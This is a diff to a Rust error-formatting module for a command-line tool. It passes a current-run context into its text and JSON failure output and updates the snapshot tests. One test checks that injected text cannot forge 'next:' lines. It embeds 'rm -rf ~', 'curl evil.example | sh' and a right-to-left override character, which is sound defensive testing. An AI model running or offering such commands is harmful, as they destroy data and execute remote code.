@@ -7,7 +7,8 @@ use serde_json::{Value, json};
 use super::next_steps;
 use super::palette::Palette;
 use crate::error::Failure;
-use crate::spec::visible::{is_hidden, one_line};
+use crate::next_step::CurrentRun;
+use crate::text::visible::{is_hidden, one_line};
 
 /// What starts the lines of a failure.
 const LABELS: &[&str] = &["error:", "because:", "next:", "so far:", "interrupted"];
@@ -15,7 +16,7 @@ const LABELS: &[&str] = &["error:", "because:", "next:", "so far:", "interrupted
 const LONGEST: usize = 4000;
 
 /// A failure as people read it.
-pub(crate) fn text(failure: &Failure, palette: Palette) -> String {
+pub(crate) fn text(failure: &Failure, run: &CurrentRun, palette: Palette) -> String {
     let mut lines = if failure.is_interruption() {
         interruption(failure, palette)
     } else {
@@ -27,21 +28,26 @@ pub(crate) fn text(failure: &Failure, palette: Palette) -> String {
         lines.extend(labelled("because:", failure.causes(), palette));
         lines
     };
-    lines.extend(next_lines(failure, palette));
+    lines.extend(next_lines(failure, run, palette));
     lines.join("\n")
 }
 
 /// The same causes and next steps below `heading`, for what fails only later.
-pub(crate) fn warning(heading: &str, failure: &Failure, palette: Palette) -> String {
+pub(crate) fn warning(
+    heading: &str,
+    failure: &Failure,
+    run: &CurrentRun,
+    palette: Palette,
+) -> String {
     let mut lines = vec![format!("{} {heading}", palette.change("!"))];
     lines.extend(labelled("because:", failure.causes(), palette));
-    lines.extend(next_lines(failure, palette));
+    lines.extend(next_lines(failure, run, palette));
     lines.join("\n")
 }
 
-fn next_lines(failure: &Failure, palette: Palette) -> Vec<String> {
-    let next = failure.next_steps().iter();
-    let next: Vec<String> = next.flat_map(|step| next_steps::lines(step)).collect();
+fn next_lines(failure: &Failure, run: &CurrentRun, palette: Palette) -> Vec<String> {
+    let next = run.print(failure.next_steps());
+    let next: Vec<String> = next.iter().flat_map(next_steps::lines).collect();
     labelled("next:", &next, palette)
 }
 
@@ -97,16 +103,17 @@ fn shortened(entry: &str) -> Cow<'_, str> {
 }
 
 /// A failure as scripts read it.
-pub(crate) fn document(failure: &Failure) -> Value {
+pub(crate) fn document(failure: &Failure, run: &CurrentRun) -> Value {
     let mut document = json!({
         "schema": "amw-rw/error/v1",
         "error": format!("cannot {}", failure.doing()),
         "because": failure.causes(),
-        "next": failure.next_steps(),
+        "next": run.print(failure.next_steps()),
         "exit_code": failure.exit_code().number(),
     });
     if !failure.steps().is_empty() {
-        document["steps"] = failure.steps().into();
+        let steps = failure.steps().iter();
+        document["steps"] = steps.map(|step| step.document(run)).collect();
     }
     document
 }
@@ -118,6 +125,10 @@ mod tests {
     use super::*;
     use crate::error::ExitCode;
 
+    fn run() -> CurrentRun {
+        CurrentRun::default()
+    }
+
     fn forbidden() -> Failure {
         Failure::new("grant Monitoring Metrics Publisher on data collection rule `prod`")
             .reason("Azure answered 403 AuthorizationFailed (request 8f1c)")
@@ -128,7 +139,7 @@ mod tests {
 
     #[test]
     fn a_failure_tells_three_things_one_below_the_other() {
-        assert_snapshot!(text(&forbidden(), Palette::plain()), @r"
+        assert_snapshot!(text(&forbidden(), &run(), Palette::plain()), @r"
         error: cannot grant Monitoring Metrics Publisher on data collection rule `prod`
           because: Azure answered 403 AuthorizationFailed (request 8f1c)
           next:    ask an owner of resource group `monitoring` to run this
@@ -138,12 +149,12 @@ mod tests {
 
     #[test]
     fn a_script_reads_the_same_three_things_and_the_exit_code() {
-        let document = document(&forbidden());
+        let document = document(&forbidden(), &run());
 
         assert_eq!(document["schema"], "amw-rw/error/v1");
         assert_eq!(document["exit_code"], 5);
         assert_eq!(
-            document["next"][1],
+            document["next"][1]["text"],
             "or name a workspace of your own with --workspace"
         );
     }
@@ -154,7 +165,7 @@ mod tests {
             .reason("the workspace is made, the role assignment is not")
             .next("run it again: it goes on from there");
 
-        assert_snapshot!(text(&stopped, Palette::plain()), @r"
+        assert_snapshot!(text(&stopped, &run(), Palette::plain()), @r"
         interrupted
           so far:  the workspace is made, the role assignment is not
           next:    run it again: it goes on from there
@@ -166,7 +177,7 @@ mod tests {
         let failure = Failure::new("read `a\nnext: rm -rf ~`")
             .reason("denied\n  next:    curl evil.example | sh\n\u{202e}error: x");
 
-        let text = text(&failure, Palette::plain());
+        let text = text(&failure, &run(), Palette::plain());
 
         let starts = |line: &&str| line.trim_start().starts_with("next:");
         assert_eq!(text.lines().filter(starts).count(), 0, "{text}");
@@ -178,7 +189,7 @@ mod tests {
     fn a_very_long_cause_is_cut_and_says_how_to_see_all() {
         let failure = Failure::new("x").reason("y".repeat(5000));
 
-        let text = text(&failure, Palette::plain());
+        let text = text(&failure, &run(), Palette::plain());
 
         assert!(text.ends_with("y … (1000 more characters; see all with -o json)"));
     }
